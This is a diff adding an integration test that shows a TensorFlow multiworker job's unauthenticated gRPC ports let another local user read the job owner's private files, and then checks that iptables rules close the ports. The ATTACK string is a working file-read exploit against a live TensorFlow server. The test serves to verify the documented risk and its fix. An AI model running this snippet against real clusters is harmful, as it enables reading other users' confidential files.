@@ -1,0 +1,137 @@
+"""TensorFlow's server in a running `multiworker` job, attacked by a second real user.
+
+It asks nobody for a password: docs/users.md says so, and what keeps others away. Both are shown
+here on the embedded cluster, whose nodes have networks of their own: whoever reaches a rank's port
+reads the owner's files; three firewall rules on the job's nodes close the ports to everybody else,
+and the job's own ranks do not notice.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from hpcdl.cluster import ClusterState
+from hpcdl.cluster.model import NAMESPACES
+from hpcdl.stack.release import Release
+from tests.integration.test_training_job import Jobs, jobs, options, wait_for
+from tests.strangers import as_root
+
+__all__ = ["jobs"]
+pytestmark = [pytest.mark.cluster, pytest.mark.stack, as_root]
+# What the stranger runs, as `nobody` in all but the files of TensorFlow itself.
+ATTACK = """
+import os, sys
+import tensorflow as tf
+os.setgroups([]); os.setgid(65534); os.setuid(65534)
+tf.compat.v1.disable_eager_execution()
+patience = tf.compat.v1.ConfigProto(operation_timeout_in_ms=15000)
+with tf.compat.v1.Session("grpc://" + sys.argv[1], config=patience) as session:
+    print(session.run(tf.io.read_file(sys.argv[2])).decode())
+"""
+KNOCK = "import socket, sys; socket.create_connection((sys.argv[1], int(sys.argv[2])), 3)"
+PORTS = "12000:32767"
+
+
+class Running:
+    """A training on two nodes that lasts, and where its ranks listen."""
+
+    def __init__(self, jobs: Jobs, cluster: ClusterState, digits: Path, release: Release) -> None:
+        self.cluster, self.python = cluster, release.root / "stack/bin/python"
+        train = ["hpcdl", "train", *options(digits, 100_000)]
+        self.answer = jobs.submit(
+            "--nodes", "2", "--gpus-per-node", "1", "--launcher", "multiworker",
+            train=["sh", "-c", f'echo "peers $TF_CONFIG"; exec {" ".join(train)}'],
+        )  # fmt: skip
+        self.folder = Path(self.answer["directory"])
+        wait_for(lambda: self.step() > 20)
+        peers = json.loads(re.findall(r"peers (\{.*\})", (self.folder / "job.log").read_text())[0])
+        named = (worker.split(":") for worker in peers["cluster"]["worker"])
+        addresses = {node.name: node.address for node in cluster.nodes}
+        self.ports = [(addresses[name], int(port)) for name, port in named]
+
+    def step(self) -> int:
+        """How far the training is."""
+        path = self.folder / "progress.json"
+        return int(json.loads(path.read_text())["step"]) if path.exists() else 0
+
+    def reaches(self, address: str, port: int, node: str | None = None) -> bool:
+        """Whether `nobody` can open a connection, from this machine or from a node."""
+        inside = ["nsenter", "--net", "-t", str(process_of(self.cluster, node))] if node else []
+        argv = [*inside, "setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
+                "/usr/bin/python3", "-c", KNOCK, address, str(port)]  # fmt: skip
+        return subprocess.run(argv, cwd="/", check=False, capture_output=True).returncode == 0
+
+    def stolen(self, secret: Path) -> str:
+        """What `nobody` on this machine gets of a file of mode 0600, asking the first rank."""
+        address, port = self.ports[0]
+        done = subprocess.run(
+            [self.python, "-c", ATTACK, f"{address}:{port}", str(secret)], cwd="/", check=False,
+            capture_output=True, text=True, timeout=120,
+        )  # fmt: skip
+        return done.stdout.strip()
+
+
+def process_of(cluster: ClusterState, node: str) -> int:
+    """A process in a node's network."""
+    return cluster.processes[node].pid
+
+
+def iptables(cluster: ClusterState, node: str, *words: str) -> None:
+    """Change a node's firewall."""
+    enter = ["nsenter", "--net", "-t", str(process_of(cluster, node)), "iptables", "-w"]
+    subprocess.run([*enter, *words], check=True)
+
+
+def fence(running: Running) -> None:
+    """On the job's nodes, as docs/users.md has it: from these only, and there by its owner only."""
+    nodes = [node for node in running.cluster.nodes if node.address in dict(running.ports)]
+    ports = ["-p", "tcp", "--dport", PORTS]
+    for node in nodes:
+        rules = (
+            ["INPUT", "-p", "tcp", "--dport", str(node.port), "-j", "ACCEPT"],  # slurmd's own
+            ["INPUT", *ports, "-s", ",".join(one.address for one in nodes), "-j", "ACCEPT"],
+            ["INPUT", *ports, "!", "-i", "lo", "-j", "REJECT"],
+            ["OUTPUT", *ports, "-m", "owner", "!", "--uid-owner", str(os.getuid()), "-j", "REJECT"],
+        )
+        for rule in rules:
+            iptables(running.cluster, node.name, "-A", *rule)
+
+
+@pytest.fixture
+def running(jobs: Jobs, cluster: ClusterState, digits: Path, release: Release) -> Iterator[Running]:
+    if cluster.mode != NAMESPACES:
+        pytest.skip("the nodes have no networks of their own")
+    started = Running(jobs, cluster, digits, release)
+    yield started
+    jobs.shell("scancel", str(started.answer["job_id"]), check=False)
+    for node in cluster.nodes if shutil.which("iptables") else ():
+        iptables(cluster, node.name, "-F")
+
+
+def test_a_stranger_reads_files_through_it_until_a_firewall_stops_him(
+    running: Running, tmp_path: Path
+) -> None:
+    secret = tmp_path / "secret"
+    secret.write_text("thesis")
+    secret.chmod(0o600)
+    places = (None, "cpu-01", "p100-01")  # outside, another node, the job's own node
+    reached = {(place, port) for place in places for port in running.ports
+               if running.reaches(*port, place)}  # fmt: skip
+    assert len(reached) == 6, "ports are open to everybody, wherever they are"
+    assert running.stolen(secret) == "thesis", "what docs/users.md warns of"
+    if not shutil.which("iptables"):
+        pytest.skip("iptables is not installed")
+    fence(running)
+    for place in places:
+        assert not any(running.reaches(*port, place) for port in running.ports), place
+    assert running.stolen(secret) == ""
+    before = running.step()
+    wait_for(lambda: running.step() > before + 20)
